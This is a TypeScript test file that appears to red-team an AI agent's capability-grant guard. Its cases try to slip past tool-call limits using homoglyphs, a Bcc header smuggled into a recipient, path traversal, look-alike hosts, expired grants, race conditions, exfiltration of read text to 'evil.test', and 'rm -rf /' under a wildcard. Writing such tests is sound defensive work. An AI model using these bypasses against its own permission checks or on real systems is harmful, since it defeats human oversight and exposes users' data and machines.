import type { Capability, Constraint, Integrity, JsonObject, JsonValue } from "@moltbot/contracts";
import {
  callOf,
  CONVERSATION,
  OTHER_AGENT,
  OTHER_CONVERSATION,
  OTHER_TURN,
  TURN,
} from "../../../../packages/core/src/guard/testing/house.ts";
import { runsLater } from "../../../../packages/core/src/guard/runs-later.ts";
import { after, START } from "../../../../packages/core/src/guard/testing/ports.ts";
import {
  attempt,
  exactly,
  give,
  GRANTABLE,
  inTheWay,
  named,
  otherSpellings,
  NUMBER_TARGETS,
  TARGETS,
} from "../attack.ts";
import type { Attack, Case, Target } from "../attack.ts";
import { ADDRESSES, DOUBLED, FORBIDDEN_ADDRESSES, NUMBERS, PATHS, SHAPES, SPELLINGS } from "../encodings.ts";
import type { Control } from "../plugs.ts";
import { grantOf } from "../tools.ts";

const label = ({ tool, argument }: Pick<Target, "tool" | "argument">): string => `${tool} ${argument}`;

/** The call is made beside a grant that holds other limits. */
const beside =
  (tool: string, given: JsonObject, constraints: readonly Constraint[], integrity: Integrity = "untrusted"): Attack =>
  async (scene) => {
    give(scene, grantOf(tool, constraints));
    await attempt(scene, tool, given, integrity);
  };

/** Besides its grant, a path that runs later has a wall of its own. */
const unlessRunLater = (path: JsonValue): readonly Control[] =>
  typeof path === "string" && runsLater(path) ? ["what runs later asks"] : [];

/** Argument × encoding: a grant of one exact value. */
const exact: readonly Case[] = [...TARGETS, ...NUMBER_TARGETS].flatMap((target) =>
  otherSpellings(target.good[target.argument] ?? null).map(([encoding, value]) =>
    named({
      argument: label(target),
      encoding,
      time: "in force",
      surface: "a grant of one value",
      control: [
        "values are compared exactly",
        ...inTheWay(value, target.good[target.argument] ?? null),
        ...(target.argument === "path" ? unlessRunLater(value) : []),
      ],
      attack: beside(target.tool, { ...target.good, [target.argument]: value }, exactly(target.good)),
    }),
  ),
);

const CRITICAL_LIST = ["zoé@example.org", "bob@example.org"] as const;
const lists: Readonly<Record<string, JsonValue>> = {
  "one more": [...CRITICAL_LIST, "eve@evil.test"],
  "one less": ["zoé@example.org"],
  none: [],
  "in another order": CRITICAL_LIST.toReversed(),
  "one twice": ["zoé@example.org", "zoé@example.org"],
  nested: [[...CRITICAL_LIST]],
  "joined by a comma": [CRITICAL_LIST.join(",")],
  "as a text": CRITICAL_LIST.join(","),
  "as an object": { "0": CRITICAL_LIST[0], "1": CRITICAL_LIST[1], length: 2 },
  "with a hole": ["zoé@example.org", null],
  "one look-alike": ["zoé@example.org", "bоb@example.org"],
  "one decomposed": ["zoé@example.org".normalize("NFD"), "bob@example.org"],
  "one with a header": ["zoé@example.org", "bob@example.org\r\nBcc: eve@evil.test"],
};
const listed: readonly Case[] = Object.entries(lists).map(([encoding, to]) =>
  named({
    argument: "mail.many to",
    encoding,
    time: "in force",
    surface: "a grant of one list",
    control: ["values are compared exactly", ...inTheWay(to, [...CRITICAL_LIST])],
    attack: beside("mail.many", { to, text: "hi" }, exactly({ to: [...CRITICAL_LIST] }), "authority"),
  }),
);
/** A list is within the recipients when each of them is: what holds others besides is not. */
const everyRecipient: readonly Case[] = Object.entries(SPELLINGS)
  .map(([encoding, write]) => [encoding, write("zoé@example.org")] as const)
  .filter(([, value]) => typeof value === "string" && value.isWellFormed() && value !== "zoé@example.org")
  .map(([encoding, value]) =>
    named({
      argument: "mail.many to",
      encoding,
      time: "in force",
      surface: "a grant of some recipients, beside a good one",
      control: ["every recipient is one of those granted"],
      attack: beside("mail.many", { to: ["zoé@example.org", value], text: "hi" }, [
        { kind: "recipient-in", argument: "to", recipients: ["zoé@example.org"] },
      ]),
    }),
  );

const MATCHING = { tool: "job.run", argument: "command", good: { command: "tidy café" } } as const;
const patterns: readonly Case[] = otherSpellings(MATCHING.good.command).map(([encoding, command]) =>
  named({
    argument: label(MATCHING),
    encoding,
    time: "in force",
    surface: "a grant of one pattern",
    control: ["a pattern fits the whole value", ...inTheWay(command, "")],
    attack: beside("job.run", { command }, [{ kind: "matches", argument: "command", pattern: "tidy café" }]),
  }),
);
const UNSEEN = [
  "a zero-width space",
  "a zero-width joiner",
  "a word joiner",
  "a soft hyphen",
  "a bidi override",
  "a variation selector",
  "a NUL behind",
  "tag characters",
  "an escape sequence",
  "a line break behind",
  "a header behind a line break",
] as const;
const tidy = (encoding: (typeof UNSEEN)[number]): string => {
  const hidden = SPELLINGS[encoding]?.("café");
  return `tidy ${typeof hidden === "string" ? hidden : ""} now`;
};
const starred: readonly Case[] = UNSEEN.map((encoding) =>
  named({
    argument: label(MATCHING),
    encoding: `${encoding} under the star`,
    time: "in force",
    surface: "a grant of a pattern with a star",
    control: ["a pattern fits the whole value"],
    attack: beside("job.run", { command: tidy(encoding) }, [
      { kind: "matches", argument: "command", pattern: "tidy * now" },
    ]),
  }),
);

const folders: readonly Case[] = Object.entries(PATHS).map(([encoding, path]) => {
  const refused = /^[/~]/.test(path) || path.split(/[/\\]/).includes("..");
  return named({
    argument: "file.append path",
    encoding,
    time: "in force",
    surface: "a grant of a folder",
    control: [
      "a path lies in the folder",
      ...(refused ? (["resources may be refused"] as const) : []),
      ...unlessRunLater(path),
    ],
    attack: beside("file.append", { path, text: "planted" }, [
      { kind: "path-within", argument: "path", root: "notes" },
      { kind: "equals", argument: "text", value: "planted" },
    ]),
  });
});

const hosts: readonly Case[] = Object.entries(ADDRESSES).map(([encoding, url]) => {
  const readable = URL.canParse(url);
  return named({
    argument: "web.fetch url",
    encoding,
    time: "in force",
    surface: "a grant of a host",
    control: ["a host is one of those granted", ...(readable ? [] : (["resources may be refused"] as const))],
    attack: beside(
      "web.fetch",
      { url },
      [{ kind: "host-in", argument: "url", hosts: ["example.org:443"] }],
      "authority",
    ),
  });
});
/** The grant itself names the forbidden host: the house refuses all the same. */
const forbidden: readonly Case[] = Object.entries(FORBIDDEN_ADDRESSES).map(([encoding, url]) => {
  const parsed = URL.canParse(url) ? new URL(url) : null;
  const host = parsed === null ? "example.org:443" : `${parsed.hostname}:${parsed.port === "" ? "80" : parsed.port}`;
  return named({
    argument: "web.fetch url",
    encoding,
    time: "in force",
    surface: "a grant of that very host",
    control: ["resources may be refused"],
    attack: beside(
      "web.fetch",
      { url },
      [{ kind: "host-in", argument: "url", hosts: [host, "example.org:443"] }],
      "authority",
    ),
  });
});

const ceilings: readonly Case[] = Object.entries(NUMBERS)
  .map(([encoding, write]) => [encoding, write(10)] as const)
  .filter(([, value]) => !(typeof value === "number" && value <= 10))
  .map(([encoding, amount]) =>
    named({
      argument: "order.place amount",
      encoding,
      time: "in force",
      surface: "a grant up to a limit",
      control: ["an amount stays below its limit", ...inTheWay(amount, 5)],
      attack: beside("order.place", { to: "bob", amount }, [
        { kind: "equals", argument: "to", value: "bob" },
        { kind: "at-most", argument: "amount", limit: 10 },
      ]),
    }),
  );

/** An address in an argument that nobody listed as critical is content from outside. */
const holdsAddress = (tool: string, written: string): boolean =>
  tool.startsWith("mail.") && written.includes("@evil.test");
const shapes: readonly Case[] = GRANTABLE.flatMap((target) =>
  Object.entries(SHAPES).map(([encoding, write]) => {
    const written = write(JSON.stringify(target.good), target.argument);
    return named({
      argument: label(target),
      encoding,
      time: "in force",
      surface: "a grant of that very call",
      control: [
        "arguments fit the schema",
        ...(holdsAddress(target.tool, written) ? (["what can be followed is looked for"] as const) : []),
        ...(target.tool.startsWith("file.") ? (["words from outside are not written"] as const) : []),
      ],
      attack: beside(
        target.tool,
        JSON.parse(written) as JsonObject, // written as an object just above
        exactly(target.good),
      ),
    });
  }),
);
const doubled: readonly Case[] = TARGETS.flatMap((target) =>
  Object.entries(DOUBLED).map(([encoding, write]) =>
    named({
      argument: label(target),
      encoding,
      time: "in force",
      surface: "a grant of one value",
      control: ["values are compared exactly"],
      attack: beside(
        target.tool,
        JSON.parse(write(JSON.stringify(target.good), target.argument)) as JsonObject, // written as an object just above
        exactly(target.good),
      ),
    }),
  ),
);

/** Grants that no longer, or never, reach this call: the time of the grammar. */
const DEAD: Readonly<Record<string, readonly [Partial<Capability>, readonly Control[]]>> = {
  "expired this millisecond": [{ expiresAt: START }, ["expiry is looked at"]],
  "expired long ago": [{ expiresAt: after(-86_400_000) }, ["expiry is looked at"]],
  revoked: [{ revokedAt: START }, ["revocation is looked at"]],
  "revoked in the future": [{ revokedAt: after(60_000) }, ["revocation is looked at"]],
  "of an earlier epoch": [{ epoch: 0 }, ["the epoch is looked at"]],
  "of a later epoch": [{ epoch: 2 }, ["the epoch is looked at"]],
  "issued in the future": [
    { issuedAt: after(3_600_000), expiresAt: after(7_200_000) },
    ["a clock from the future is doubted"],
  ],
  "of another conversation": [
    { reach: { kind: "conversation", conversationId: OTHER_CONVERSATION } },
    ["the reach is looked at"],
  ],
  "of another task": [{ reach: { kind: "task", turnId: OTHER_TURN } }, ["the reach is looked at"]],
  "with a conversation's id as task": [
    { reach: { kind: "task", turnId: CONVERSATION } as unknown as Capability["reach"] }, // the attack: ids are texts
    ["the reach is looked at"],
  ],
  "with a task's id as conversation": [
    { reach: { kind: "conversation", conversationId: TURN } as unknown as Capability["reach"] }, // the attack: ids are texts
    ["the reach is looked at"],
  ],
  "with a reach of no known kind": [
    { reach: { kind: "everywhere" } as unknown as Capability["reach"] }, // the attack: a row written by a later version
    ["the reach is looked at"],
  ],
  "of another agent": [{ holder: OTHER_AGENT }, ["the holder is looked at"]],
  "to hand on only": [{ rights: ["delegate"] }, ["the right to use is looked at"]],
  "without its permission": [{ permissions: [] }, ["permissions are looked at"]],
  "with a permission that begins alike": [{ permissions: ["mail", "*", "mail.*"] }, ["permissions are looked at"]],
  "hanging on nothing that is known": [{ parent: grantOf("mail.send").id }, ["the whole chain counts"]],
};
const dead: readonly Case[] = GRANTABLE.flatMap((target) =>
  Object.entries(DEAD).map(([time, [change, control]]) =>
    named({
      argument: label(target),
      encoding: "as granted",
      time,
      surface: "a grant",
      control,
      attack: async (scene) => {
        give(scene, grantOf(target.tool, exactly(target.good), change));
        await attempt(scene, target.tool, target.good, "authority");
      },
    }),
  ),
);

const otherTools: readonly Case[] = GRANTABLE.map((target) =>
  named({
    argument: label(target),
    encoding: "as granted",
    time: "in force",
    surface: "a grant for another tool with the same limits",
    control: ["grants of other tools are left out", "a grant is for one tool"],
    attack: async (scene) => {
      const other = target.tool === "mail.send" ? "order.place" : "mail.send";
      const { permissions } = grantOf(target.tool);
      give(scene, grantOf(other, exactly(target.good), { permissions }));
      await attempt(scene, target.tool, target.good, "authority");
    },
  }),
);

/** Grants that count: used up by honest calls before. */
interface Spent {
  readonly limit: Constraint;
  readonly control: Control;
  readonly before: readonly JsonObject[];
  readonly wanted: JsonObject;
}
const order = (amount: number): JsonObject => ({ to: "bob", amount });
const BOUND = [
  { kind: "equals", argument: "to", value: "bob" },
  { kind: "at-most", argument: "amount", limit: 1e300 },
] as const;
const SPENT: Readonly<Record<string, Spent>> = {
  "the only use is used": {
    limit: { kind: "count", limit: 1 },
    control: "uses are counted",
    before: [order(1)],
    wanted: order(1),
  },
  "all three uses are used": {
    limit: { kind: "count", limit: 3 },
    control: "uses are counted",
    before: [order(1), order(2), order(3)],
    wanted: order(4),
  },
  "one in this minute": {
    limit: { kind: "rate", limit: 1, seconds: 60 },
    control: "the rate is counted",
    before: [order(1)],
    wanted: order(2),
  },
  "two in this hour": {
    limit: { kind: "rate", limit: 2, seconds: 3_600 },
    control: "the rate is counted",
    before: [order(1), order(2)],
    wanted: order(3),
  },
  "the budget is spent": {
    limit: { kind: "cost", argument: "amount", limit: 10 },
    control: "costs are added up",
    before: [order(6), order(4)],
    wanted: order(1),
  },
  "the budget would be passed": {
    limit: { kind: "cost", argument: "amount", limit: 10 },
    control: "costs are added up",
    before: [order(6)],
    wanted: order(4.01),
  },
  "the budget cannot be filled up by a negative amount": {
    limit: { kind: "cost", argument: "amount", limit: 10 },
    control: "costs are added up",
    before: [order(10)],
    wanted: order(-10),
  },
  "the budget is passed at once": {
    limit: { kind: "cost", argument: "amount", limit: 10 },
    control: "costs are added up",
    before: [],
    wanted: order(1e21),
  },
  "the bytes are spent": {
    limit: { kind: "bytes", limit: 30 },
    control: "bytes are added up",
    before: [order(1)],
    wanted: order(1),
  },
  "the bytes are passed at once": {
    limit: { kind: "bytes", limit: 24 },
    control: "bytes are added up",
    before: [],
    wanted: order(1e300),
  },
  "the window opens later": {
    limit: { kind: "time-window", days: [0], from: "13:00", to: "14:00", zone: "UTC" },
    control: "the hour is looked at",
    before: [],
    wanted: order(1),
  },
  "the window closed this minute": {
    limit: { kind: "time-window", days: [0], from: "11:00", to: "12:00", zone: "UTC" },
    control: "the hour is looked at",
    before: [],
    wanted: order(1),
  },
  "the window is for another day": {
    limit: { kind: "time-window", days: [1, 2, 3, 4, 5, 6], from: "00:00", to: "23:59", zone: "UTC" },
    control: "the hour is looked at",
    before: [],
    wanted: order(1),
  },
  "the window is in another zone": {
    limit: { kind: "time-window", days: [0], from: "12:00", to: "13:00", zone: "Asia/Tokyo" },
    control: "the hour is looked at",
    before: [],
    wanted: order(1),
  },
  "the window is in no zone": {
    limit: { kind: "time-window", days: [0], from: "00:00", to: "23:59", zone: "Mars/Olympus" },
    control: "the hour is looked at",
    before: [],
    wanted: order(1),
  },
  "the window over midnight began on another day": {
    limit: { kind: "time-window", days: [0], from: "23:00", to: "13:00", zone: "UTC" },
    control: "the hour is looked at",
    before: [],
    wanted: order(1),
  },
};
const used: readonly Case[] = Object.entries(SPENT).flatMap(([time, { limit, control, before, wanted }]) =>
  (["authority", "untrusted"] as const).map((integrity) =>
    named({
      argument: "order.place amount",
      encoding: `as granted, from ${integrity} context`,
      time,
      surface: "a grant that counts",
      control: [control],
      attack: async (scene) => {
        give(scene, grantOf("order.place", [...BOUND, limit]));
        for (const honest of before) await attempt(scene, "order.place", honest, "authority");
        await attempt(scene, "order.place", wanted, integrity);
        return before.map((given) => ({ tool: "order.place", arguments: given }));
      },
    }),
  ),
);
/** Two calls at once see the same counter: one transaction after the other decides. */
const raced: readonly Case[] = (
  [
    ["the only use", { kind: "count", limit: 1 }, "uses are counted"],
    ["one in this hour", { kind: "rate", limit: 1, seconds: 3_600 }, "the rate is counted"],
    ["the whole budget", { kind: "cost", argument: "amount", limit: 5 }, "costs are added up"],
    ["all the bytes", { kind: "bytes", limit: 30 }, "bytes are added up"],
  ] as const
).flatMap(([time, limit, control]) =>
  [2, 5].map((times) =>
    named({
      argument: "order.place amount",
      encoding: `${String(times)} calls at once`,
      time,
      surface: "a grant that counts",
      control: [control],
      attack: async (scene) => {
        give(scene, grantOf("order.place", [...BOUND, limit]));
        await Promise.all(Array.from({ length: times }, () => attempt(scene, "order.place", order(5), "authority")));
        return [{ tool: "order.place", arguments: order(5) }];
      },
    }),
  ),
);
const HARD: readonly (readonly [string, JsonObject, "none" | "undoable"])[] = [
  ["mail.send", { to: "zoé@example.org", text: "hi" }, "undoable"],
  ["mail.send", { to: "zoé@example.org", text: "hi" }, "none"],
  ["order.place", { to: "bob", amount: 1 }, "none"],
  ["file.append", { path: "notes/a.txt", text: "x" }, "none"],
];
const reversibility: readonly Case[] = HARD.map(([tool, given, atMost]) =>
  named({
    argument: tool,
    encoding: `no harder to take back than “${atMost}”`,
    time: "in force",
    surface: "a grant of what can be taken back",
    control: ["what can be taken back is looked at"],
    attack: beside(tool, given, [...exactly(given), { kind: "reversible", atMost }]),
  }),
);

/** Grants that leave open what decides, in a context where that matters. */
const loose = (
  name: string,
  control: readonly Control[],
  tool: string,
  given: JsonObject,
  constraints: readonly Constraint[],
  integrity: Integrity = "untrusted",
): Case =>
  named({
    argument: tool,
    encoding: name,
    time: `from ${integrity} context`,
    surface: "a grant that leaves it open",
    control,
    attack: beside(tool, given, constraints, integrity),
  });
const open: readonly Case[] = [
  ...(["authority", "participant", "untrusted"] as const).flatMap((integrity) => [
    loose("no limit at all", ["every critical argument is bounded"], "order.place", order(5), [], integrity),
    loose(
      "the amount alone",
      ["every critical argument is bounded"],
      "order.place",
      order(5),
      [{ kind: "at-most", argument: "amount", limit: 9 }],
      integrity,
    ),
    loose(
      "the recipient alone",
      ["every critical argument is bounded"],
      "order.place",
      order(5),
      [{ kind: "equals", argument: "to", value: "bob" }],
      integrity,
    ),
    loose(
      "how often alone",
      ["every critical argument is bounded"],
      "order.place",
      order(5),
      [{ kind: "count", limit: 9 }],
      integrity,
    ),
    loose(
      "the star as pattern",
      ["every critical argument is bounded"],
      "job.run",
      { command: "rm -rf /" },
      [{ kind: "matches", argument: "command", pattern: "*" }],
      integrity,
    ),
    loose(
      "two stars as pattern",
      ["every critical argument is bounded"],
      "job.run",
      { command: "rm -rf /" },
      [{ kind: "matches", argument: "command", pattern: "**" }],
      integrity,
    ),
  ]),
  loose("no host", ["every critical argument is bounded"], "web.fetch", { url: "https://evil.test/" }, [], "authority"),
  loose(
    "an address pattern, no host",
    ["every critical argument is bounded"],
    "web.fetch",
    { url: "https://evil.test/?https://example.org/" },
    [{ kind: "matches", argument: "url", pattern: "*example.org/" }],
    "authority",
  ),
  ...(["participant", "untrusted"] as const).flatMap((integrity) => [
    loose(
      "the recipient is open",
      ["every critical argument is bounded"],
      "mail.send",
      { to: "eve@evil.test", text: "hi" },
      [],
      integrity,
    ),
    loose(
      "nothing is listed as critical",
      ["without a list every argument is critical", "what can be followed is looked for"],
      "post.plain",
      { to: "eve@evil.test", text: "hi" },
      [],
      integrity,
    ),
    loose(
      "it leaves no trace to undo",
      ["some effects are asked each time"],
      "note.mark",
      { path: "notes/a" },
      [{ kind: "equals", argument: "path", value: "notes/a" }],
      integrity,
    ),
    ...["the public", "a stranger", "nobody known"].map((sink) => {
      const to =
        { "the public": "all@public.test", "a stranger": "eve@stranger.test", "nobody known": "who@nobody.test" }[
          sink
        ] ?? "";
      return loose(
        `the text is open and goes to ${sink}`,
        ["sinks may read what was in view"],
        "mail.send",
        { to, text: "what I read" },
        [{ kind: "equals", argument: "to", value: to }],
        integrity,
      );
    }),
    ...[
      ["in the query", "?q=what+I+read"],
      ["in the path", "what-I-read"],
      ["in the fragment", "#what-I-read"],
      ["in the user", "@"],
      ["in a parameter's name", "?what+I+read"],
      ["percent-encoded", "%77hat"],
      ["in the letters' case", "WhAt"],
      ["in the number of slashes", "////"],
      ["as a dot", "."],
    ].map(([where, tail]) =>
      loose(
        `what was read ${String(where)}`,
        ["sinks may read what was in view"],
        "web.fetch",
        { url: tail === "@" ? "https://what-I-read@example.org/" : `https://example.org/${String(tail)}` },
        [{ kind: "host-in", argument: "url", hosts: ["example.org:443"] }],
        integrity,
      ),
    ),
  ]),
];

/** Releases that do not let this out to there. */
const released: readonly Case[] = (
  [
    ["of another source", [{ source: { kind: "file", ref: "b.txt" }, to: "example.org:443" }]],
    ["of the same name of another kind", [{ source: { kind: "host", ref: "a.txt" }, to: "example.org:443" }]],
    ["to another host", [{ source: { kind: "file", ref: "a.txt" }, to: "example.com:443" }]],
    ["to another port", [{ source: "any", to: "example.org:8443" }]],
    ["to the host without its port", [{ source: "any", to: "example.org" }]],
    ["to a host that begins alike", [{ source: "any", to: "example.org:443.evil.test" }]],
    ["to the host in upper case", [{ source: "any", to: "EXAMPLE.ORG:443" }]],
    ["of one source of two", [{ source: { kind: "file", ref: "a.txt" }, to: "example.org:443" }], 2],
    ["of nothing", []],
  ] as const
).map(([encoding, release, sources = 1]) =>
  named({
    argument: "web.fetch url",
    encoding: `a release ${encoding}`,
    time: "in force",
    surface: "a grant that releases",
    control: ["a release names source and sink"],
    attack: async (scene) => {
      give(
        scene,
        grantOf("web.fetch", [{ kind: "host-in", argument: "url", hosts: ["example.org:443"] }], {
          release: [...release],
        }),
      );
      const call = callOf("web.fetch", { url: "https://example.org/?q=read" }, "untrusted");
      const from = [
        { kind: "file", ref: "a.txt" },
        { kind: "memory", ref: "m" },
      ] as const;
      await scene.attempt({ ...call, label: { ...call.label, sources: from.slice(0, sources) } });
    },
  }),
);

/** Asked each time, whatever is granted. */
const always: readonly Case[] = (
  [
    ["bank.pay", { to: "bob", amount: 5 }, "some effects are asked each time"],
    ["right.give", { to: "eve" }, "some effects are asked each time"],
    ["plugin.add", { name: "evil" }, "some effects are asked each time"],
    ["note.burn", { path: "notes/a" }, "some effects are asked each time"],
  ] as const
).flatMap(([tool, given, control]) =>
  (["authority", "participant", "untrusted"] as const).map((integrity) =>
    named({
      argument: tool,
      encoding: "as granted",
      time: `from ${integrity} context`,
      surface: "a grant of that very call, for ever",
      control: [control],
      attack: async (scene) => {
        give(scene, grantOf(tool, exactly(given), { expiresAt: "never" }));
        await attempt(scene, tool, given, integrity);
      },
    }),
  ),
);

const GOOD_RUN = { argv: ["git", "log", "café"] };
const ONLY_GIT: Constraint = { kind: "program-in", argument: "argv", programs: ["git"] };
const ONLY_EXAMPLE: Constraint = { kind: "host-in", argument: "network", hosts: ["example.org:443"] };

/** Another program under the limit of one name. */
const programs: readonly Case[] = (
  [
    ["a shell", ["sh", "-c", "git log"]],
    ["one that starts others", ["env", "git", "log"]],
    ["by its path", ["/usr/bin/git", "log"]],
    ["of the workspace", ["./git", "log"]],
    ["in capitals", ["GIT", "log"]],
    ["with a blank", ["git ", "log"]],
    ["with its words", ["git log"]],
    ["with something unseen", ["git\u200B", "log"]],
    ["in another alphabet", ["g\u0456t", "log"]],
    ["in wide letters", ["ｇｉｔ", "log"]],
  ] as const
).flatMap(([encoding, argv]) =>
  (["authority", "untrusted"] as const).map((integrity) =>
    named({
      argument: "exec.run argv",
      encoding,
      time: `from ${integrity} context`,
      surface: "a grant of one program",
      control: ["every program is one of those granted"],
      attack: beside("exec.run", { argv: [...argv] }, [ONLY_GIT], integrity),
    }),
  ),
);

const otherWords: Readonly<Record<string, JsonValue>> = {
  "one more": [...GOOD_RUN.argv, "--output=x"],
  "one less": ["git", "log"],
  "in another order": ["log", "git", "café"],
  "an empty one more": [...GOOD_RUN.argv, ""],
  "joined by a blank": ["git", "log café"],
  "one decomposed": GOOD_RUN.argv.map((word) => word.normalize("NFD")),
  "one in capitals": ["git", "LOG", "café"],
};
const wordsOfPrograms: readonly Case[] = Object.entries(otherWords).map(([encoding, argv]) =>
  named({
    argument: "exec.run argv",
    encoding,
    time: "in force",
    surface: "a grant of these words",
    control: ["values are compared exactly"],
    attack: beside("exec.run", { argv }, [{ kind: "equals", argument: "argv", value: GOOD_RUN.argv }]),
  }),
);

/** Hosts that no grant names, from a clean context; from another one even the granted host asks. */
const programHosts: readonly Case[] = [
  ...(
    [
      ["another", ["evil.test"]],
      ["one more", ["example.org", "evil.test"]],
      ["one more before", ["evil.test", "example.org"]],
      ["another port", ["example.org:8443"]],
      ["one that begins alike", ["example.org.evil.test"]],
      ["one below it", ["www.example.org"]],
      ["with a final point", ["example.org."]],
      ["in another alphabet", ["ex\u0430mple.org"]],
    ] as const
  ).map(([encoding, network]) =>
    named({
      argument: "exec.run network",
      encoding,
      time: "from authority context",
      surface: "a grant of a host",
      control: ["a host is one of those granted"],
      attack: beside("exec.run", { ...GOOD_RUN, network: [...network] }, [ONLY_EXAMPLE], "authority"),
    }),
  ),
  ...([[], [ONLY_GIT], [{ kind: "equals", argument: "network", value: ["evil.test"] } as const]] as const).map(
    (constraints, at) =>
      named({
        argument: "exec.run network",
        encoding: ["no limit", "a limit on the program alone", "the list itself"][at] ?? "",
        time: "from authority context",
        surface: "a grant that names no host",
        control: ["every critical argument is bounded"],
        attack: beside("exec.run", { ...GOOD_RUN, network: ["evil.test"] }, constraints, "authority"),
      }),
  ),
  ...(["participant", "untrusted"] as const).map((integrity) =>
    named({
      argument: "exec.run network",
      encoding: "as granted",
      time: `from ${integrity} context`,
      surface: "a grant of that host and of these words, for ever",
      control: ["some effects are asked each time"],
      attack: async (scene) => {
        const given = { ...GOOD_RUN, network: ["example.org"] };
        give(scene, grantOf("exec.run", [ONLY_EXAMPLE, ...exactly(given)], { expiresAt: "never" }));
        await attempt(scene, "exec.run", given, integrity);
      },
    }),
  ),
];

/** Calls that run nothing that anybody could see, or that would run on the bare machine. */
const bare: readonly Case[] = (["authority", "participant", "untrusted"] as const).flatMap((integrity) => [
  ...([[], ["", "sh"]] as const).map((argv) =>
    named({
      argument: "exec.run argv",
      encoding: argv.length === 0 ? "no words" : "an empty name",
      time: `from ${integrity} context`,
      surface: "a grant without limits",
      control: ["a call that starts nothing is refused"],
      attack: beside("exec.run", { argv: [...argv] }, [], integrity),
    }),
  ),
  named({
    argument: "exec.run argv",
    encoding: "as granted",
    time: `from ${integrity} context`,
    surface: "a machine without the wall",
    control: ["nothing runs without the wall"],
    attack: async (scene) => {
      const resolving = scene.tools.resolving;
      scene.tools.resolving = (call) => {
        const found = resolving(call);
        return found.ok
          ? { ok: true, value: found.value.map((one) => ({ ...one, refusal: "SANDBOX_UNAVAILABLE" })) }
          : found;
      };
      give(scene, grantOf("exec.run", exactly(GOOD_RUN)));
      await attempt(scene, "exec.run", GOOD_RUN, integrity);
    },
  }),
]);

export const GRANT_CASES: readonly Case[] = [
  ...exact,
  ...listed,
  ...everyRecipient,
  ...patterns,
  ...starred,
  ...folders,
  ...hosts,
  ...forbidden,
  ...ceilings,
  ...shapes,
  ...doubled,
  ...dead,
  ...otherTools,
  ...used,
  ...raced,
  ...reversibility,
  ...open,
  ...released,
  ...always,
  ...programs,
  ...wordsOfPrograms,
  ...programHosts,
  ...bare,
];
